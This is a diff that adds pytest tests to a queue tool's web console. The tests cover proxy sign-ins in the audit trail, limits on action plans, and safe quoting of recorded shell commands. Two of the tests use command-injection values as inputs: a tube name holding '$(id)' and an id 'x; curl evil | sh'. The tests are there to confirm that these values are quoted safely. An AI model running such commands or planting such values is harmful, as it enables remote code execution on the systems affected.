@@ -3,24 +3,27 @@
 from __future__ import annotations
 
 import json
+import shlex
 import threading
+from contextlib import suppress
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from glassq.console.console import Console
-from glassq.console.plans import MOST, ActionPlan, Plans
+from glassq.console.plans import MOST, MOST_CHOSEN, ActionPlan, Plans
 from glassq.console.roles import Actor, Role
 from glassq.console.routes import ROUTES
-from glassq.delivery import decode
+from glassq.delivery import decode, encode
 from glassq.errors import NotFound
+from glassq.ledger import Entry, open_ledger
 from glassq.operations import activity
 from glassq.operations.filters import Filter
 from glassq.operations.progress import Silent
 from glassq.operations.result import Report
 from tests.cli.conftest import a_delivery, evidence, put
 from tests.conftest import wait_for
-from tests.console.conftest import OPERATOR, VIEWER, Browser, Site, site_of, words_of
+from tests.console.conftest import OPERATOR, PROXY, VIEWER, Browser, Site, site_of, words_of
 from tests.syncers import queue_section
 
 if TYPE_CHECKING:
@@ -115,6 +118,26 @@ def test_a_plan_is_its_makers_alone_and_not_for_ever(house: Site, queue: Queue) 
     assert queue.stats_tube().buried == 1
 
 
+def test_a_name_that_a_proxy_says_is_another_one_in_plans_and_in_the_trail(
+    beanstalkd: Beanstalkd, tmp_path: Path, queue: Queue
+) -> None:
+    more = f'proxy_user = "{PROXY}"\nproxy_header = "X-User"\nproxy_operators = ["{OPERATOR}"]\n'
+    made = site_of(tmp_path, beanstalkd.url, more, queue=queue_section(beanstalkd.url))
+    ledger, now = open_ledger(made.console.settings.ledger), made.clock()
+    ledger.record(Entry("d-1", "mirror", now, "done", 1, now, 0.5))
+    ledger.close()
+    bury(queue, 1)
+    look(made)
+    own, proxied = made.signed_in(), made.browser(PROXY, X_User=OPERATOR).sign_in()
+    plan = location(own.post("/plan/kick", {"cause": cause(made)}), "/plans/")
+    assert proxied.get(plan).status_code == 404
+    assert proxied.post(plan).status_code == 404
+    proxied.post("/pause")
+    told = {(each.did, each.actor) for each in activity.newest(made.console.operations)}
+    assert told == {("sign-in", OPERATOR), ("sign-in", f"{OPERATOR} (proxy)"), ("pause", f"{OPERATOR} (proxy)")}
+    made.console.close()
+
+
 def test_of_one_maker_fifty_plans_are_kept(site: Site) -> None:
     plans = Plans(site.clock)
     anna, bob = (Actor(name, Role.OPERATOR, "socket") for name in ("anna", "bob"))
@@ -138,6 +161,33 @@ def test_of_one_maker_fifty_plans_are_kept(site: Site) -> None:
     assert plans.get("anna1", anna)
     with pytest.raises(NotFound):
         plans.get("anna0", anna)
+
+
+def user(number: int) -> Actor:
+    return Actor(f"user {number}", Role.OPERATOR, "socket")
+
+
+def test_plans_of_whatever_kind_hold_no_more_than_fits_into_memory(site: Site) -> None:
+    plans = Plans(site.clock)
+    for number in range(5):
+        # that of a replay holds names, and no references
+        plan = ActionPlan(
+            id=str(number),
+            kind="replay",
+            title="",
+            maker=f"user {number}",
+            via="console/socket",
+            made=site.clock(),
+            chosen=MOST_CHOSEN // 2,
+            work=lambda *_: Report(),
+        )
+        plans.add(plan)
+        plans.begin(str(number), user(number), lambda _plan: "") if number == 3 else None
+    alive = []
+    for number in range(5):
+        with suppress(NotFound):
+            alive.append(plans.get(str(number), user(number)).id)
+    assert alive == ["3", "4"]
 
 
 def test_what_was_worked_or_changed_since_is_left_out(house: Site, queue: Queue) -> None:
@@ -411,6 +461,31 @@ def test_a_pause_holds_the_work_and_the_trail_has_it(house: Site, queue: Queue) 
         ("resume", OPERATOR, "console/socket", "glassq resume"),
         ("pause", OPERATOR, "console/socket", "glassq pause --for 30m"),
     ]
+
+
+def test_a_command_that_the_trail_shows_runs_nothing_else(house: Site, queue: Queue) -> None:
+    # whoever reaches the queue may name tubes
+    tube = "glassq.queue.$(id);x"
+    queue.put(encode(a_delivery()), tube=tube)
+    browser = house.signed_in()
+    browser.post("/pause", {"tube": tube})
+    browser.post("/resume", {"tube": tube})
+    told = [each.command for each in activity.newest(house.console.operations) if each.did != "sign-in"]
+    assert [shlex.split(command) for command in told] == [
+        ["glassq", "resume", tube],
+        ["glassq", "pause", tube, "--for", "30m"],
+    ]
+    assert not any("glassq.queue.$(id);x " in f"{command} " for command in told)
+
+
+def test_an_id_that_looks_like_an_option_is_none_in_a_command(house: Site, queue: Queue) -> None:
+    for id_ in ("--all-of-them-now", "x; curl evil | sh"):
+        put(queue, a_delivery(id=id_, buried="no", attempt=4), "buried")
+    browser = house.signed_in()
+    plan = location(browser.post("/plan/kick", {"id": "--all-of-them-now"}), "/plans/")
+    assert browser.json(f"{plan}.json")["commands"] == {"all": "kick --follow -- --all-of-them-now"}
+    plan = location(browser.post("/plan/kick", {"id": "x; curl evil | sh"}), "/plans/")
+    assert browser.json(f"{plan}.json")["commands"] == {"all": "kick 'x; curl evil | sh' --follow"}
 
 
 def test_a_note_on_a_group_is_there_for_the_next_one(house: Site) -> None:
